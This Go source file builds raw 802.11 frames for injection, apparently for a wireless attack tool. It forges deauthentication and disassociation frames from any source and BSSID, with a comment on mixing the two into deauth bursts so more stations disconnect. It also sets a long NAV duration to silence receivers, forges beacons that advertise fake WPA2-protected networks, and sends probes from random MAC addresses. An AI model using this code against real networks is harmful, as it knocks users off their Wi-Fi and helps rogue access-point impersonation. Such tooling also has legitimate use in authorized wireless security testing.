// Package inject builds the raw 802.11 frames the radio actuator
// transmits. Frames start at the 802.11 header; link-layer wrapping and
// the trailing FCS are the driver's business.
package inject

import (
	"fmt"
	"math/rand"
	"net"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
)

// Broadcast is the all-stations destination address.
var Broadcast = net.HardwareAddr{0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF}

// Capability bits advertised in beacon frames.
const (
	capESS     = 0x0001
	capPrivacy = 0x0010
)

// navDuration keeps receivers quiet for 5000us after each frame.
const navDuration = 0x1388

// RandomMAC returns a random locally administered unicast address.
func RandomMAC() net.HardwareAddr {
	v := rand.Uint64()
	mac := net.HardwareAddr{
		byte(v), byte(v >> 8), byte(v >> 16),
		byte(v >> 24), byte(v >> 32), byte(v >> 40),
	}
	mac[0] = (mac[0] | 0x02) & 0xfe
	return mac
}

// Deauth builds a deauthentication frame from source to target on behalf
// of bssid. target may be Broadcast.
func Deauth(target, source, bssid net.HardwareAddr, reason uint16, seq uint16) ([]byte, error) {
	return managementFrame(layers.Dot11TypeMgmtDeauthentication, target, source, bssid, reason, seq)
}

// Disassoc builds the disassociation counterpart. Mixed into deauth
// bursts because some stations honor one subtype but not the other.
func Disassoc(target, source, bssid net.HardwareAddr, reason uint16, seq uint16) ([]byte, error) {
	return managementFrame(layers.Dot11TypeMgmtDisassociation, target, source, bssid, reason, seq)
}

// Beacon builds an advertisement for ssid from bssid on channel.
// protected sets the privacy capability and attaches a WPA2 RSN element,
// making the network appear password-protected.
func Beacon(ssid string, bssid net.HardwareAddr, channel int, protected bool, seq uint16) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtBeacon,
		Address1:       Broadcast,
		Address2:       bssid,
		Address3:       bssid,
		SequenceNumber: seq,
	}

	caps := uint16(capESS)
	if protected {
		caps |= capPrivacy
	}
	beacon := &layers.Dot11MgmtBeacon{
		Interval: 100,
		Flags:    caps,
	}

	frame := []gopacket.SerializableLayer{
		dot11,
		beacon,
		ie(layers.Dot11InformationElementIDSSID, []byte(ssid)),
		// 1, 2, 5.5, 6, 9, 11, 12, 18, 24, 36, 48, 54 Mbps
		ie(layers.Dot11InformationElementIDRates,
			[]byte{0x82, 0x84, 0x8b, 0x8c, 0x12, 0x96, 0x18, 0x24, 0x30, 0x48, 0x60, 0x6c}),
		ie(layers.Dot11InformationElementIDDSSet, []byte{byte(channel)}),
		// TIM marks the sender as an AP holding no buffered traffic.
		ie(layers.Dot11InformationElementIDTIM, []byte{0x04, 0x00, 0x01, 0x00, 0x00}),
	}
	if protected {
		// RSN v1: group TKIP, pairwise TKIP+CCMP, PSK
		frame = append(frame, ie(layers.Dot11InformationElementIDRSNInfo, []byte{
			0x01, 0x00,
			0x00, 0x0f, 0xac, 0x02,
			0x02, 0x00, 0x00, 0x0f, 0xac, 0x04, 0x00, 0x0f, 0xac, 0x02,
			0x01, 0x00, 0x00, 0x0f, 0xac, 0x02,
			0x00, 0x00,
		}))
	}

	return serialize(frame...)
}

// ProbeRequest builds a directed probe for ssid from src; empty ssid
// probes the wildcard.
func ProbeRequest(ssid string, src net.HardwareAddr, seq uint16) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           layers.Dot11TypeMgmtProbeReq,
		Address1:       Broadcast,
		Address2:       src,
		Address3:       Broadcast,
		SequenceNumber: seq,
	}
	return serialize(dot11,
		ie(layers.Dot11InformationElementIDSSID, []byte(ssid)),
		// 1, 2, 5.5, 11 Mbps basic set
		ie(layers.Dot11InformationElementIDRates, []byte{0x82, 0x84, 0x8b, 0x96}),
	)
}

func managementFrame(subtype layers.Dot11Type, target, source, bssid net.HardwareAddr, reason uint16, seq uint16) ([]byte, error) {
	dot11 := &layers.Dot11{
		Type:           subtype,
		Address1:       target,
		Address2:       source,
		Address3:       bssid,
		SequenceNumber: seq,
		DurationID:     navDuration,
	}

	var payload gopacket.SerializableLayer
	switch subtype {
	case layers.Dot11TypeMgmtDeauthentication:
		payload = &layers.Dot11MgmtDeauthentication{Reason: layers.Dot11Reason(reason)}
	case layers.Dot11TypeMgmtDisassociation:
		payload = &layers.Dot11MgmtDisassociation{Reason: layers.Dot11Reason(reason)}
	default:
		return nil, fmt.Errorf("unsupported management subtype: %v", subtype)
	}

	return serialize(dot11, payload)
}

func ie(id layers.Dot11InformationElementID, info []byte) *layers.Dot11InformationElement {
	return &layers.Dot11InformationElement{
		ID:     id,
		Length: uint8(len(info)),
		Info:   info,
	}
}

func serialize(frame ...gopacket.SerializableLayer) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{
		FixLengths:       true,
		ComputeChecksums: true,
	}
	if err := gopacket.SerializeLayers(buf, opts, frame...); err != nil {
		return nil, fmt.Errorf("serialize failed: %w", err)
	}
	return buf.Bytes(), nil
}
